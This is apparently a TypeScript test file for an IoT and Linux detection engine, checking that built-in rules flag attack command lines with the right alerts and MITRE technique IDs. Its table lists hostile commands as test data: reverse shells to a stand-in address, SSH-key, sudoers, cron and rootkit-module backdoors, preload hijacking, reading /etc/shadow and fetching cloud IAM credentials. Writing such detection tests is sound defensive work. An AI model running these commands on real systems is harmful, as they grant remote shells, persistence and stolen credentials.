import assert from 'node:assert/strict';
import { evidenceOf } from '../../src/detections/alerts/evidence.ts';
import { builtInRules } from '../../src/detections/built-in.ts';
import { Detector } from '../../src/detections/detector.ts';
import { subjectOf } from '../../src/detections/subjects.ts';
import { SetClock } from './rules.ts';

/** Attacks by command line: alert, selection and techniques. */
const ATTACKS: Readonly<Record<string, readonly [alert: string, selection: RegExp, techniques: string]>> = {
  'bash -c bash -i >& /dev/tcp/198.51.100.7/443 0>&1': ['IoT_ReverseShell', /^shellToDevice$/, 'T1059.004;T1095'],
  'nc -e /bin/sh 198.51.100.7 443': ['IoT_ReverseShell', /^netcat;/, 'T1059.004;T1095'],
  'tee -a /root/.ssh/authorized_keys': ['IoT_LinuxBackdoor', /^key$/, 'T1098.004'],
  'crontab /tmp/.job': ['IoT_LinuxBackdoor', /^cron/, 'T1053.003'],
  'sh -c echo "eve ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers': ['IoT_LinuxBackdoor', /^sudoers$/, 'T1548.003'],
  'insmod /tmp/diamorphine.ko': ['IoT_LinuxBackdoor', /^module$/, 'T1547.006'],
  'sh -c echo /tmp/x.so > /etc/ld.so.preload': ['IoT_LinuxBackdoor', /^preload$/, 'T1574.006'],
  'mount --bind /tmp/e /proc/812': ['IoT_LinuxBackdoor', /^hidden$/, 'T1564.013'],
  'cat /etc/shadow': ['IoT_CredentialAccessTools', /^shadow$/, 'T1003.008'],
  'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/': [
    ...(['IoT_CredentialAccessTools', /^service$/, 'T1552.005'] as const),
  ],
  'find / -perm -4000 -type f': ['IoT_LinuxReconnaissance', /^setuid$/, 'T1083'],
};

describe('The selections of shipped rules', () => {
  const { rules } = builtInRules();

  for (const [CommandLine, [alert, selection, techniques]] of Object.entries(ATTACKS))
    it(`name ${techniques} for ${CommandLine}`, () => {
      const payload = { Executable: `/usr/bin/${CommandLine.split(' ')[0]}`, CommandLine, ProcessId: 1, UserId: '0' };
      const subject = subjectOf({ name: 'ProcessCreate', payload, time: 0 });
      assert.ok(subject !== undefined);
      const hits = new Detector({ rules, clock: new SetClock() }).judge(subject);
      const found = hits
        .filter(({ rule }) => rule.alert === alert)
        .map((hit) => evidenceOf(hit, alert, { redact: true }));
      assert.ok(
        found.some((each) => selection.test(each.selection ?? '') && each.techniques.join(';') === techniques),
        JSON.stringify(found.map((each) => [each.selection, each.techniques])),
      );
    });

  it('exist in their rule, and name techniques', () => {
    const mapped = rules.filter(({ facts }) => facts.selectionTags !== undefined);
    assert.ok(mapped.length >= 10);
    for (const { facts } of mapped)
      for (const [name, tags] of Object.entries(facts.selectionTags ?? {}))
        assert.ok(
          tags.some((tag) => /^attack\.t\d{4}(\.\d{3})?$/.test(tag)),
          `${facts.title}: ${name}`,
        );
  });
});
